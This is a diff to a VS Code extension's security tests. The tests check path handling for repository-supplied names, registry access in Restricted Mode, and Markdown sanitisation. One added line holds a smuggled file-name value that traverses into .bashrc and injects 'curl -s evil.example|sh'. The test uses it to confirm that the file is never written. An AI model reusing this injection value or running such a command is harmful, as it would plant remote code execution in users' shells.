@@ -6,6 +6,7 @@ import * as path from 'path';
 import * as vscode from 'vscode';
 import type { FakeableServices } from '../../../src/extension/api';
 import type { ManifestNode } from '../../../src/extension/views/manifestNodes';
+import { hostileDocuments } from '../../unit/support/hostileMarkdown';
 import { testingApi, workspaceFile } from './support';
 
 function row(uri: vscode.Uri): ManifestNode {
@@ -70,9 +71,13 @@ describe('security: what a repository can plant', () => {
       restore = testingApi().fake(rec.services);
       for (const uri of [hostile, plain]) {
         const report = await vscode.commands.executeCommand<{ results: unknown[] }>('atpProxy.testConnectivity', row(uri));
-        assert.strictEqual(report.results.length, 1);
+        assert.ok(report.results.length > 0);
         assert.strictEqual(await vscode.commands.executeCommand('atpProxy.saveReport', row(uri)), undefined);
       }
+      // What the old code wrote to: the folder's URI plus the raw name, parsed again.
+      const folderUri = workspaceFile().toString();
+      const oldTarget = vscode.Uri.parse(`${folderUri}/${'..%2F.bashrc#\ncurl -s evil.example|sh\n#'}.connectivity.md`);
+      assert.strictEqual(path.normalize(oldTarget.fsPath), bashrc);
       assert.strictEqual(fs.existsSync(bashrc), false, `${bashrc} was written`);
       assert.strictEqual(fs.readFileSync(planted, 'utf8'), 'untouched\n');
       assert.strictEqual(rec.errors.length, 2, rec.errors.join('\n'));
@@ -113,22 +118,32 @@ describe('security: what a repository can plant', () => {
     }
   });
 
-  it('the Machine view runs no reg command in Restricted Mode and says why', async () => {
+  it('Read This Machine\'s Registry runs no reg command in Restricted Mode and says why', async () => {
     let started = 0;
+    const errors: string[] = [];
     restore = testingApi().fake({
+      window: { showErrorMessage: (m) => errors.push(m), showInformationMessage: () => undefined },
       environment: { platform: 'win32', env: {}, isTrusted: () => false, storagePath: '/nowhere', labOverrides: true },
       registry: async () => {
         started++;
         throw new Error('a registry backend was made in Restricted Mode');
       },
     });
-    await vscode.commands.executeCommand('atpProxy.refresh');
-    const rows = await testingApi().machineRows();
-    assert.deepStrictEqual(rows.map((r) => r.label), ['Cannot read the registry']);
-    assert.match(String(rows[0].description), /disabled in Restricted Mode/);
+    assert.strictEqual(await vscode.commands.executeCommand('atpProxy.readMachine'), undefined);
+    assert.strictEqual(errors.length, 1);
+    assert.match(errors[0], /runs reg\.exe .*disabled in Restricted Mode/);
     assert.strictEqual(started, 0);
-    restore();
-    restore = undefined;
-    await vscode.commands.executeCommand('atpProxy.refresh');
+  });
+
+  it('VS Code\'s Markdown engine renders no image, link or HTML from hostile values in hovers, Preview Apply or the report', async () => {
+    for (const { where, markdown } of await hostileDocuments()) {
+      // The engine of the Markdown preview (markdown-it with linkify, as the preview is configured).
+      const html = await vscode.commands.executeCommand<string>('markdown.api.render', markdown);
+      assert.ok(typeof html === 'string' && html.length > 0, `${where}: nothing rendered`);
+      const elements = [...html.matchAll(/<([a-z][a-z0-9]*)/gi)].map((m) => m[1].toLowerCase());
+      const foreign = elements.filter((tag) => !['h1', 'h2', 'p', 'strong', 'em', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'code', 'ul', 'li', 'pre', 'blockquote', 'span', 'div'].includes(tag));
+      assert.deepStrictEqual(foreign, [], `${where}:\n${html}`);
+      assert.doesNotMatch(html, /<[^>]*\b(href|src)=/i, `${where}:\n${html}`);
+    }
   });
 });
